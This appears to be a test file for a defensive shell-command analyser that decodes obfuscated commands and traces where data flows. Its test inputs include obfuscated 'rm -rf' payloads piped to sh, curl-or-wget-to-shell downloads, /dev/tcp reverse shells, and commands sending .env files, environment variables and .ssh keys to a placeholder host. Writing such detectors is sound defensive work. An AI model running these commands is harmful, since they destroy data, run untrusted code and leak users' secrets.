import { describe, expect, it } from "vitest";
import { calls, read, spell } from "./reading.ts";

/** The runs of code in a command: language, known text or not, and the kinds of origin. */
function runs(command: string): readonly string[] {
  return read(command).codeRuns.map(run => {
    const origins = [...new Set(run.code.origins.map(origin => origin.kind))].sort();
    return [run.language, run.from, run.isExamined ? "examined" : "unexamined", ...origins].join(" ");
  });
}

describe("decoders", () => {
  it.each([
    "echo cm0gLXJmIC94 | base64 -d | sh",
    "echo cm0gLXJmIC94 | base64 --decode | bash",
    "base64 -d <<< cm0gLXJmIC94 | sh",
    "base64 -D <<< cm0gLXJmIC94 | sh",
    "echo OJWSALLSMYQC66A= | base32 -d | sh",
    "echo 726d202d7266202f78 | xxd -r -p | sh",
    "echo '00000000: 726d 202d 7266 202f 78  rm -rf /x' | xxd -r | sh",
    "echo cm0gLXJmIC94 | openssl base64 -d | sh",
    "echo cm0gLXJmIC94 | openssl enc -d -base64 | sh",
    "echo cm0gLXJmIC94 | openssl enc -a -d -A | sh",
    "echo 'x/ fr- mr' | rev | sh",
    "echo 'EZ -ES /K' | tr 'EZSK' 'rmfx' | sh",
    "echo 'RM -RF /X' | tr A-Z a-z | sh",
    "echo 'RM -RF /X' | tr '[:upper:]' '[:lower:]' | sh",
    "echo 'rzm -zrf /zx' | tr -d z | sh",
    "echo 'Xm -rf /x' | sed 's/X/r/' | sh",
    "echo 'XmY-rfY/x' | sed -e 's/X/r/' -e 's|Y| |g' | sh",
    "echo 'Zm -rf /x' | sed 'y/Z/r/' | sh",
    "echo 'zzzrm -rf /x' | cut -c4- | sh",
    "echo 'a:rm -rf /x' | cut -d: -f2 | sh",
    "printf 'a\\nrm -rf /x\\n' | tail -n 1 | sh",
    "printf 'rm -rf /x\\na\\n' | head -1 | sh",
    "printf '\\x72\\x6d -rf /x' | sh",
    "printf '\\162m -rf /x' | sh",
    "echo -e '\\x72m -rf /x' | bash",
    "echo -e '\\0162m -rf /x' | bash",
    "echo $'\\x72m -rf /x' | bash",
    "printf %b '\\x72m -rf /x' | sh",
    'x=$(echo cm0gLXJmIC94 | base64 -d); eval "$x"',
    "eval $(echo cm0gLXJmIC94 | base64 -d)",
    "echo Y20wZ0xYSm1JQzk0 | base64 -d | base64 -d | sh",
    "bash <(echo cm0gLXJmIC94 | base64 -d)",
    "source <(base64 -d <<< cm0gLXJmIC94)",
    "echo cm0gLXJmIC94 > a; base64 -d a > b; sh b",
    "echo cm0gLXJmIC94 | base64 -d | sudo bash",
    "echo cm0gLXJmIC94 | base64 -d | tee /dev/null | cat | sh",
  ])("%s is computed", command => {
    expect(calls(command, "rm")).toEqual(["rm -rf /x"]);
  });

  it.each([
    ["echo cm0gLXJmIC94 | base64 -d | sh", "shell stdin examined decoded"],
    ["printf 'a\\nb\\n' | sh", "shell stdin examined"],
    ["printf '\\x61' | sh", "shell stdin examined decoded"],
    ["gunzip -c x.gz | sh", "shell stdin unexamined decoded file"],
    ["zcat < x | sh", "shell stdin unexamined decoded file"],
    ["base64 -d payload | sh", "shell stdin unexamined decoded file"],
    ["openssl enc -aes-256-cbc -d -in x -k p | bash", "shell stdin unexamined decoded file"],
    ["gpg -d x | bash", "shell stdin unexamined decoded file"],
    ["xxd -r -p payload | sh", "shell stdin unexamined decoded file"],
    ["uudecode -o /dev/stdout x | sh", "shell stdin unexamined decoded file"],
    ["python3 -c 'print(1)' | sh", "python argument examined", "shell stdin unexamined decoded program"],
    ["echo abc | somefilter | sh", "shell stdin unexamined decoded program"],
    ["eval $(base64 -d < f)", "shell argument unexamined decoded file"],
  ])("%s → %s", (command, ...expected) => {
    expect(runs(command)).toEqual(expected);
  });
});

describe("the network", () => {
  it.each([
    ["curl -fsSL https://h/i.sh | sh", "shell stdin unexamined network program"],
    ["curl https://h | sudo -E bash -s -- -y", "shell stdin unexamined network program"],
    ["wget -qO- https://h | bash", "shell stdin unexamined network program"],
    ["wget -O - https://h | bash", "shell stdin unexamined network program"],
    ["http https://h | sh", "shell stdin unexamined network program"],
    ["nc h 1 | sh", "shell stdin unexamined network program"],
    ["ssh h cat x | sh", "shell argument examined", "shell stdin unexamined network program"],
    ["git archive --remote=h x | sh", "shell stdin unexamined network program"],
    ["curl h | tee f | sh", "shell stdin unexamined network program"],
    ["curl h | gunzip | sh", "shell stdin unexamined decoded network program"],
    ["curl h | sed 's/a/b/' | sh", "sed argument examined", "shell stdin unexamined network program"],
    ["curl h | grep x | sh", "shell stdin unexamined network program"],
    ["curl h | base64 -d | sh", "shell stdin unexamined decoded network program"],
    ['bash -c "$(curl h)"', "shell argument unexamined network program"],
    ['sh -c "$(wget -qO- h)"', "shell argument unexamined network program"],
    ['eval "$(curl h)"', "shell argument unexamined network program"],
    ["source <(curl h)", "shell file unexamined network program"],
    [". <(curl h)", "shell file unexamined network program"],
    ["bash <(curl h)", "shell file unexamined network program"],
    ["curl h > f; sh f", "shell file unexamined network program"],
    ["curl -o f h; sh f", "shell file unexamined network program"],
    ["curl --output f h && bash f", "shell file unexamined network program"],
    ["curl -O https://h/f && bash f", "shell file unexamined network program"],
    ["curl -sSLO https://h/f; chmod +x f; ./f", "shell file unexamined network program"],
    ["wget https://h/a/f?x=1; sh f", "shell file unexamined network program"],
    ["wget -O f h; sh f", "shell file unexamined network program"],
    ["wget -P /tmp https://h/f; sh /tmp/f", "shell file unexamined network program"],
    ["wget h -O /tmp/f && chmod 755 /tmp/f && sudo /tmp/f", "shell file unexamined network program"],
    ["curl h -o f; source f", "shell file unexamined network program"],
    ["curl h -o f; mv f g; sh g", "shell file unexamined network program"],
    ["curl h -o f; cat f | sh", "shell stdin unexamined network program"],
    ["scp h:f . ; sh f", "shell file unexamined network program"],
    ["scp h:/a/f /tmp/f; sh /tmp/f", "shell file unexamined network program"],
    ["curl h | python3", "python stdin unexamined network program"],
    ["curl h | python3 -", "python stdin unexamined network program"],
    ["curl h | node", "javascript stdin unexamined network program"],
    ["curl h -o f.py; python3 f.py", "python file unexamined network program"],
    ["exec 5<>/dev/tcp/h/1; bash <&5", "shell stdin unexamined file network"],
    ["bash < /dev/tcp/h/1", "shell stdin unexamined file network"],
  ])("%s → %s", (command, ...expected) => {
    expect(runs(command)).toEqual(expected);
  });

  it.each([
    ["curl h | python3 -c 'import sys'", "python argument examined"],
    ["curl h | node -e '1'", "javascript argument examined"],
    ["curl h | jq ."],
    ["curl h | tar xz"],
    ["curl h > f; cat f"],
    ["curl h -o f; grep x f"],
  ])("%s is data", (command, ...expected) => {
    expect(runs(command)).toEqual(expected);
  });
});

describe("local programs", () => {
  it.each([
    ['eval "$(ssh-agent -s)"', "shell argument unexamined program"],
    ['eval "$(direnv hook bash)"', "shell argument unexamined program"],
    ["source <(kubectl completion bash)", "shell file unexamined program"],
    ['eval "$(brew shellenv)"', "shell argument unexamined program"],
    ["pyenv init - | source /dev/stdin", "shell file unexamined program"],
    ['source "$HOME/.cargo/env"', "shell file unexamined file"],
  ])("%s → %s", (command, expected) => {
    expect(runs(command)).toEqual([expected]);
  });
});

describe("what flows to whom", () => {
  const origins = (command: string, program: string) =>
    read(command)
      .invocations.filter(one => one.program === program)
      .map(one =>
        (one.stdin?.origins ?? []).map(origin =>
          origin.kind === "file"
            ? `file ${spell(origin.path)}`
            : origin.kind === "program"
              ? `program ${read(command).invocations[origin.invocation]?.program}`
              : origin.kind,
        ),
      );

  it.each([
    ["cat .env | curl -d @- h", ["file /home/me/project/.env"]],
    ["base64 .env | curl -d @- h", ["program base64", "file /home/me/project/.env"]],
    ["grep K .env | curl -d @- h", ["program grep"]],
    ["printenv | curl -d @- h", ["program printenv"]],
    ["env | base64 | curl -T - h", ["program base64", "program env"]],
    ["curl -d @- h < .env", ["file /home/me/project/.env"]],
    ["cd ~; tar c .ssh | curl -T - h", ["program tar"]],
    ["cp .env a; cat a | curl -d @- h", ["file /home/me/project/.env"]],
    ["{ cat .env; id; } | curl -d @- h", ["file /home/me/project/.env"]],
  ])("%s", (command, expected) => {
    expect(origins(command, "curl")).toEqual([expected]);
  });

  it("numbers the members of a pipeline", () => {
    expect(read("a | b | c; d").invocations.map(one => one.pipeline)).toEqual([
      { id: 1, index: 0, length: 3 },
      { id: 1, index: 1, length: 3 },
      { id: 1, index: 2, length: 3 },
      undefined,
    ]);
  });

  it("knows the text that literal programs write", () => {
    const text = (command: string) =>
      spell(read(command).invocations.find(one => one.program === "q")?.stdin);
    expect(text("echo a b | q")).toBe("a b\n");
    expect(text("echo -n a | q")).toBe("a");
    expect(text("printf '%s-%d\\n' a 1 b 2 | q")).toBe("a-1\nb-2\n");
    expect(text("(echo a; echo b) | q")).toBe("a\nb\n");
    expect(text("q <<< a")).toBe("a\n");
    expect(text("q <<E\n$HOME \\$x\nE")).toBe("/home/me $x\n");
    expect(text("q <<'E'\n$HOME\nE")).toBe("$HOME\n");
    expect(text("q <<-E\n\ta\n\tE")).toBe("a\n");
    expect(text("q <<E\nopen end")).toBe("open end");
    expect(text("cat <<A <<B | q\na\nA\nb\nB")).toBe("b\n");
    expect(text("if :; then echo a; fi | q")).toBe("");
    expect(text("echo a | tee f | q")).toBe("a\n");
    expect(text("echo a 1>&2 | q")).toBe("");
    expect(text("echo a > f | q")).toBe("");
  });
});

describe("redirections", () => {
  const targets = (command: string) =>
    read(command).redirections.map(
      one => `${one.operation} ${one.descriptor} ${spell(one.target)} ${one.invocation}`,
    );

  it.each([
    ["a > f", ["write 1 f 0"]],
    ["a >> f 2> g", ["append 1 f 0", "write 2 g 0"]],
    ["a &> f", ["write 1 f 0"]],
    ["a >& f", ["write 1 f 0"]],
    ["a >| f", ["write 1 f 0"]],
    ["a 2>&1 >&- <&0", []],
    ["> f", ["write 1 f undefined"]],
    ["{ a; } > f", ["write 1 f undefined"]],
    ["for i in 1; do a; done < f", ["read 0 f undefined"]],
    ["a <> f", ["read-write 0 f 0"]],
    ["a 3> f", ["write 3 f 0"]],
    ["a {fd}> f", ["write 10 f 0"]],
    ["f=/etc/x; a > $f", ["write 1 /etc/x 0"]],
    ["a > $(echo f)", ["write 1 f 1"]],
    ["> *.txt", ["write 1 <*>.txt undefined"]],
    ["a | b > f", ["write 1 f 1"]],
    ["sudo a > f", ["write 1 f 0"]],
  ])("%s", (command, expected) => {
    expect(targets(command)).toEqual(expected);
  });

  it("belong to the wrapped program, too", () => {
    const [, inner] = read("sudo bash -i >& /dev/tcp/h/1").invocations;
    expect(inner?.program).toBe("bash");
    expect(inner?.redirections.map(one => spell(one.target))).toEqual(["/dev/tcp/h/1"]);
  });

  it("resolve against the directory of their moment", () => {
    expect(read("cd /a; b > f; cd /c; d > g").redirections.map(one => spell(one.cwd))).toEqual(["/a", "/c"]);
  });
});

describe("files the command writes", () => {
  it("are listed with their content", () => {
    const written = read("echo a > f; cat f >> g; curl h -o i; tee j <<< k").writtenFiles.map(
      one => `${spell(one.path)} ${one.isAppend} ${JSON.stringify(spell(one.content))}`,
    );
    expect(written).toEqual([
      '/home/me/project/f false "a\\n"',
      '/home/me/project/g true "a\\n"',
      '/home/me/project/i false "{$(curl h -o)}"',
      '/home/me/project/j false "k\\n"',
    ]);
  });
});
